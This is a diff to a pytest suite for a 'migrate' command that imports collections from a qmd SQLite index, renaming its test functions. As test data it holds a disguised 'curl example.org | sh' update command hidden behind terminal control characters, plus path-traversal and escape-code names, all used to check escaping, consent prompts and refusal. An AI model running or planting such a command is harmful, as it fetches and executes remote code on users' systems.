@@ -56,7 +56,7 @@ def config_of(user: User) -> Path:
     return user.home / "config" / "qmd" / "index.yml"
 
 
-def test_collections_of_an_index_are_taken_over_once(user: User, old: Path) -> None:
+def test_migrate_takes_over_the_collections_of_an_index_once(user: User, old: Path) -> None:
     before = old.read_bytes()
     planned = report(user, str(old), "--dry-run", "--with-commands")
     assert planned["changed"]
@@ -78,7 +78,7 @@ def test_collections_of_an_index_are_taken_over_once(user: User, old: Path) -> N
     assert [entry.name for entry in old.parent.iterdir()] == ["index.sqlite"]
 
 
-def test_the_index_yml_counts_more_than_the_index(user: User, old: Path) -> None:
+def test_migrate_prefers_index_yml_to_the_index(user: User, old: Path) -> None:
     config = old.with_suffix(".yml")
     config.write_text(f"collections:\n  mine:\n    path: {user.notes}\n    context: Mine\n", encoding="utf-8")
     found = report(user, str(old))
@@ -86,7 +86,7 @@ def test_the_index_yml_counts_more_than_the_index(user: User, old: Path) -> None
     assert any("gone, notes" in note for note in found["notes"])
 
 
-def test_what_is_here_stays_and_differences_are_named(user: User, old: Path) -> None:
+def test_migrate_keeps_existing_settings_and_names_differences(user: User, old: Path) -> None:
     user.ok("collection", "add", str(user.notes), "--name", "notes", "--mask", "*.md")
     user.ok("context", "add", "qmd://notes", "Something else")
     notes = {each["name"]: each for each in report(user, str(old))["collections"]}["notes"]
@@ -100,7 +100,7 @@ def test_what_is_here_stays_and_differences_are_named(user: User, old: Path) -> 
     assert "New" in contexts
 
 
-def test_in_the_usual_place_both_programs_share_the_configuration(user: User, old: Path) -> None:
+def test_migrate_shares_the_configuration_in_the_default_place(user: User, old: Path) -> None:
     place = user.home / "cache" / "qmd" / "index.sqlite"
     old.rename(place)
     config_of(user).parent.mkdir(parents=True)
@@ -113,7 +113,7 @@ def test_in_the_usual_place_both_programs_share_the_configuration(user: User, ol
     assert (place.read_bytes(), config_of(user).read_bytes()) == before
 
 
-def test_changes_in_a_write_ahead_log_are_read_from_a_copy(user: User, old: Path) -> None:
+def test_migrate_reads_a_write_ahead_log_from_a_copy(user: User, old: Path) -> None:
     with closing(sqlite3.connect(old)) as db:
         db.execute("PRAGMA journal_mode=WAL")
         db.execute("UPDATE store_collections SET name = 'renamed' WHERE name = 'gone'")
@@ -125,7 +125,7 @@ def test_changes_in_a_write_ahead_log_are_read_from_a_copy(user: User, old: Path
         assert {entry.name: entry.read_bytes() for entry in old.parent.iterdir()} == files
 
 
-def test_files_of_other_programs_are_refused(user: User, old: Path) -> None:
+def test_migrate_refuses_files_of_other_programs(user: User, old: Path) -> None:
     other = user.home / "other.sqlite"
     with closing(sqlite3.connect(other)) as db:
         db.execute("CREATE TABLE t (a)")
@@ -145,7 +145,7 @@ def test_files_of_other_programs_are_refused(user: User, old: Path) -> None:
     assert "there is no index of tobi/qmd" in user.invoke("migrate").stderr
 
 
-def test_update_commands_are_taken_over_only_with_the_users_consent(user: User, old: Path) -> None:
+def test_migrate_takes_over_update_commands_only_with_consent(user: User, old: Path) -> None:
     shown = user.ok("migrate", str(old))
     assert "without its update command, which --with-commands takes over: git pull" in shown
     assert "git pull" not in config_of(user).read_text(encoding="utf-8")
@@ -157,9 +157,7 @@ def test_update_commands_are_taken_over_only_with_the_users_consent(user: User, 
 
 @pytest.mark.slow
 @pytest.mark.parametrize("answer", ["y", "n"])
-def test_update_commands_are_shown_with_their_control_characters_and_asked_for(
-    user: User, old: Path, answer: str
-) -> None:
+def test_migrate_asks_with_escaped_update_commands(user: User, old: Path, answer: str) -> None:
     with closing(sqlite3.connect(old)) as db:
         command = "make\n\x1b[2K\rcurl example.org | sh"
         db.execute("UPDATE store_collections SET update_command = ? WHERE name = 'notes'", (command,))
@@ -176,9 +174,7 @@ def test_update_commands_are_shown_with_their_control_characters_and_asked_for(
 
 
 @pytest.mark.parametrize("bad", ["../../x", "a\nb", "\x1b[31mred"])
-def test_a_name_that_cannot_be_used_is_refused_before_anything_is_written(
-    user: User, old: Path, bad: str
-) -> None:
+def test_migrate_refuses_an_invalid_name_before_writing(user: User, old: Path, bad: str) -> None:
     with closing(sqlite3.connect(old)) as db:
         db.execute("UPDATE store_collections SET name = ? WHERE name = 'notes'", (bad,))
         db.commit()
@@ -190,7 +186,7 @@ def test_a_name_that_cannot_be_used_is_refused_before_anything_is_written(
     assert not config_of(user).exists()
 
 
-def test_a_folder_that_cannot_be_used_leaves_nothing_written(user: User, old: Path) -> None:
+def test_migrate_of_an_invalid_pattern_writes_nothing(user: User, old: Path) -> None:
     with closing(sqlite3.connect(old)) as db:
         db.execute("UPDATE store_collections SET pattern = ' ' WHERE name = 'notes'")
         db.commit()
